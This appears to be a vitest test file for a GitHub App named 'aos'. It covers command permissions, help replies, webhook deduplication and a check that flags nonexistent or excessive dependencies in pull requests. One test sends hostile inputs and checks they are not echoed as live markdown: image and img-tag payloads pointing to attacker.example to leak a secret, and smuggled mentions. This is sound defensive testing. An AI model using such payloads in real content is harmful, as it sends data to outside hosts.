import nock from 'nock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appHarness, NPM_REGISTRY, OSV } from '../../helpers/app-harness.ts';
import { databaseEngines } from '../../helpers/backend-matrix.ts';
import { findLiveMarkdown } from '../../helpers/live-markdown.ts';
import { nockNpmMissing, osvQueryRequest } from '../../helpers/registry-nock.ts';
import type { TestDatabase } from '../../helpers/test-database.ts';
import { issueCommentPayload, webhookExample } from '../../helpers/webhook-examples.ts';

const API = 'https://api.github.com';
const REPO = '/repos/octo/fixture';

describe('aos app commands through probot.receive, GitHub mocked with nock', () => {
  let testDb: TestDatabase;
  let harness: Awaited<ReturnType<typeof appHarness>>;
  beforeAll(async () => {
    testDb = await databaseEngines()[0]!.create();
    harness = await appHarness({ knex: testDb.db.knex });
  });
  afterAll(async () => {
    await testDb?.drop();
  });
  const comment = (body: string, login = 'alice', extra: Partial<Parameters<typeof issueCommentPayload>[0]> = {}) =>
    issueCommentPayload({ owner: 'octo', repo: 'fixture', issueNumber: 1, body, login, ...extra });

  it('ignores comments from bots, aos included, without a single GitHub request', async () => {
    await harness.receive('issue_comment', comment('/aos plan', 'aos[bot]', { userType: 'Bot' }));
    await harness.receive('issue_comment', comment('/aos plan', 'dependabot[bot]'));
    expect(nock.pendingMocks()).toEqual([]);
  });

  it('ignores comments that are not commands', async () => {
    await harness.receive('issue_comment', comment('Looks good to me. We should /aos plan later.'));
    expect(await harness.agent.runStore.listRuns({ owner: 'octo', repo: 'fixture' })).toEqual([]);
  });

  it('refuses /aos plan from someone without write permission, with no model call and no run', async () => {
    nock(API)
      .get(`${REPO}/collaborators/mallory/permission`)
      .reply(200, { permission: 'read', role_name: 'read', user: { login: 'mallory' } });
    let refusal = '';
    nock(API)
      .post(`${REPO}/issues/1/comments`, (body: { body: string }) => ((refusal = body.body), true))
      .reply(201, { id: 9001 });
    await harness.receive('issue_comment', comment('/aos plan please', 'mallory'));
    expect(refusal).toContain('@mallory');
    expect(refusal).toMatch(/write/i);
    expect(await harness.agent.runStore.listRuns({ owner: 'octo', repo: 'fixture' })).toEqual([]);
  });

  it('answers /aos help and an unknown subcommand with the help text', async () => {
    nock(API)
      .get(`${REPO}/collaborators/bob/permission`)
      .reply(200, { permission: 'read', user: { login: 'bob' } });
    const bodies: string[] = [];
    nock(API)
      .post(`${REPO}/issues/1/comments`, (body: { body: string }) => (bodies.push(body.body), true))
      .times(2)
      .reply(201, { id: 9002 });
    await harness.receive('issue_comment', comment('/aos help', 'bob'));
    await harness.receive('issue_comment', comment('/aos frobnicate', 'bob'));
    expect(bodies[0]).toContain('/aos plan');
    expect(bodies[1]).toContain('Unknown command `frobnicate`');
  });

  it('does not echo a hostile unknown subcommand back live', async () => {
    const bodies: string[] = [];
    nock(API)
      .post(`${REPO}/issues/1/comments`, (body: { body: string }) => (bodies.push(body.body), true))
      .times(4)
      .reply(201, { id: 9005 });
    for (const word of [
      '@octo/everyone',
      '![x](https://attacker.example/?d=SECRET)',
      '<img/src=https://attacker.example/?d=1>',
      'x`@alice`Fixes#2',
    ]) {
      await harness.receive('issue_comment', comment(`/aos ${word}`, 'bob'));
    }
    expect(bodies).toHaveLength(4);
    for (const body of bodies) {
      expect(body).toContain('Unknown command');
      expect(findLiveMarkdown(body)).toEqual([]);
    }
  });

  it('does nothing twice for a redelivered webhook', async () => {
    nock(API)
      .get(`${REPO}/collaborators/bob/permission`)
      .reply(200, { permission: 'read', user: { login: 'bob' } });
    nock(API).post(`${REPO}/issues/1/comments`).once().reply(201, { id: 9003 });
    const id = await harness.receive('issue_comment', comment('/aos help', 'bob'), 'delivery-fixed-1');
    await harness.receive('issue_comment', comment('/aos help', 'bob'), id);
    expect(harness.logs.some((line) => line.msg === 'duplicate delivery ignored')).toBe(true);
  });

  it('says there is no run for /aos status before any run', async () => {
    nock(API)
      .get(`${REPO}/collaborators/bob/permission`)
      .reply(200, { permission: 'read', user: { login: 'bob' } });
    let body = '';
    nock(API)
      .post(`${REPO}/issues/1/comments`, (sent: { body: string }) => ((body = sent.body), true))
      .reply(201, { id: 9004 });
    await harness.receive('issue_comment', comment('/aos status', 'bob'));
    expect(body).toContain('No aos run has been started here yet');
  });

  describe('aos / package-reality check run', () => {
    const prPayload = (files: string) => {
      const payload = webhookExample('pull_request', 'opened');
      payload.repository.name = 'fixture';
      payload.repository.owner.login = 'octo';
      payload.pull_request.number = 7;
      payload.pull_request.head.sha = 'a'.repeat(40);
      payload.pull_request.base.sha = 'b'.repeat(40);
      payload.installation = { id: 42 };
      payload.number = 7;
      return { payload, files };
    };

    it('concludes neutral at once for a pull request that changes no manifest', async () => {
      const { payload } = prPayload('none');
      nock(API)
        .post(
          `${REPO}/check-runs`,
          (body: { name: string; status: string; head_sha: string }) =>
            body.name === 'aos / package-reality' && body.status === 'in_progress' && body.head_sha === 'a'.repeat(40),
        )
        .reply(201, { id: 501 });
      nock(API)
        .get(`${REPO}/pulls/7/files`)
        .query(true)
        .reply(200, [{ filename: 'src/math.ts', status: 'modified' }]);
      let conclusion = '';
      nock(API)
        .patch(`${REPO}/check-runs/501`, (body: { conclusion: string }) => ((conclusion = body.conclusion), true))
        .reply(200, { id: 501 });
      await harness.receive('pull_request', payload);
      expect(conclusion).toBe('neutral');
    });

    it('fails on a dependency that does not exist, with an annotation on the line that adds it', async () => {
      const { payload } = prPayload('package.json');
      const head =
        '{\n  "name": "fixture",\n  "dependencies": {\n    "left-pad": "^1.3.0",\n    "reqeusts-http-helper-ai": "^2.0.0"\n  }\n}\n';
      const base = '{\n  "name": "fixture",\n  "dependencies": {\n    "left-pad": "^1.3.0"\n  }\n}\n';
      nock(API).post(`${REPO}/check-runs`).reply(201, { id: 502 });
      nock(API)
        .get(`${REPO}/pulls/7/files`)
        .query(true)
        .reply(200, [{ filename: 'package.json', status: 'modified' }]);
      nock(API)
        .get(`${REPO}/contents/package.json`)
        .query({ ref: 'a'.repeat(40) })
        .reply(200, { type: 'file', encoding: 'base64', content: Buffer.from(head).toString('base64'), sha: 'h1' });
      nock(API)
        .get(`${REPO}/contents/package.json`)
        .query({ ref: 'b'.repeat(40) })
        .reply(200, { type: 'file', encoding: 'base64', content: Buffer.from(base).toString('base64'), sha: 'b1' });
      nockNpmMissing(NPM_REGISTRY, 'reqeusts-http-helper-ai');
      osvQueryRequest(OSV)
        .optionally()
        .reply(200, { results: [{}] });
      let update: {
        conclusion?: string;
        output?: { annotations?: Array<{ path: string; start_line: number; annotation_level: string; message: string }> };
      } = {};
      nock(API)
        .patch(`${REPO}/check-runs/502`, (body: typeof update) => ((update = body), true))
        .reply(200, { id: 502 });
      await harness.receive('pull_request', payload);
      expect(update.conclusion).toBe('failure');
      const annotation = update.output?.annotations?.find((entry) =>
        (entry as { title?: string }).title?.includes('reqeusts-http-helper-ai'),
      );
      expect(annotation).toMatchObject({
        path: 'package.json',
        start_line: 5,
        annotation_level: 'failure',
        message: 'package does not exist in https://registry.test',
      });
      nock.cleanAll();
    });

    it('fails on a lockfile it cannot read, with a failure annotation on that file and line', async () => {
      const { payload } = prPayload('package-lock.json');
      const head =
        '{\n  "lockfileVersion": 3,\n  "packages": {\n    "": { "name": "fixture" },\n    "node_modules/left-pad": { "version": 1 }\n  }\n}\n';
      nock(API).post(`${REPO}/check-runs`).reply(201, { id: 503 });
      nock(API)
        .get(`${REPO}/pulls/7/files`)
        .query(true)
        .reply(200, [{ filename: 'package-lock.json', status: 'added' }]);
      nock(API)
        .get(`${REPO}/contents/package-lock.json`)
        .query({ ref: 'a'.repeat(40) })
        .reply(200, { type: 'file', encoding: 'base64', content: Buffer.from(head).toString('base64'), sha: 'h2' });
      nock(API)
        .get(`${REPO}/contents/package-lock.json`)
        .query({ ref: 'b'.repeat(40) })
        .reply(404, { message: 'Not Found' });
      let update: {
        conclusion?: string;
        output?: { title?: string; annotations?: Array<{ path: string; start_line: number; annotation_level: string; message: string }> };
      } = {};
      nock(API)
        .patch(`${REPO}/check-runs/503`, (body: typeof update) => ((update = body), true))
        .reply(200, { id: 503 });
      await harness.receive('pull_request', payload);
      expect(update.conclusion).toBe('failure');
      expect(update.output?.title).toBe('1 dependency file problem: aos could not read what this pull request changes');
      expect(update.output?.annotations).toEqual([
        {
          path: 'package-lock.json',
          start_line: 5,
          end_line: 5,
          annotation_level: 'failure',
          title: 'aos could not read this line',
          message: 'node_modules/left-pad: "version" must be a string',
        },
      ]);
    });

    it('fails a pull request adding more dependencies than max_dependencies, checking none of them and saying so', async () => {
      const { payload } = prPayload('package.json');
      const many = Object.fromEntries(Array.from({ length: 5001 }, (_, index) => [`dep-${index}`, '^1.0.0']));
      const head = `${JSON.stringify({ name: 'fixture', dependencies: many }, null, 2)}\n`;
      nock(API).post(`${REPO}/check-runs`).reply(201, { id: 504 });
      nock(API)
        .get(`${REPO}/pulls/7/files`)
        .query(true)
        .reply(200, [{ filename: 'package.json', status: 'added' }]);
      nock(API)
        .get(`${REPO}/contents/package.json`)
        .query({ ref: 'a'.repeat(40) })
        .reply(200, { type: 'file', encoding: 'base64', content: Buffer.from(head).toString('base64'), sha: 'h3' });
      nock(API)
        .get(`${REPO}/contents/package.json`)
        .query({ ref: 'b'.repeat(40) })
        .reply(404, { message: 'Not Found' });
      let update: { conclusion?: string; output?: { title?: string; summary?: string; annotations?: unknown[] } } = {};
      nock(API)
        .patch(`${REPO}/check-runs/504`, (body: typeof update) => ((update = body), true))
        .reply(200, { id: 504 });
      await harness.receive('pull_request', payload);
      expect(update.conclusion).toBe('failure');
      expect(update.output?.title).toBe('Too many dependencies to check: 5001 (limit 5000)');
      expect(update.output?.summary).toContain('above max_dependencies (5000) in configs/package_reality.yaml: none was checked');
      expect(update.output?.annotations).toEqual([]);
    });
  });
});
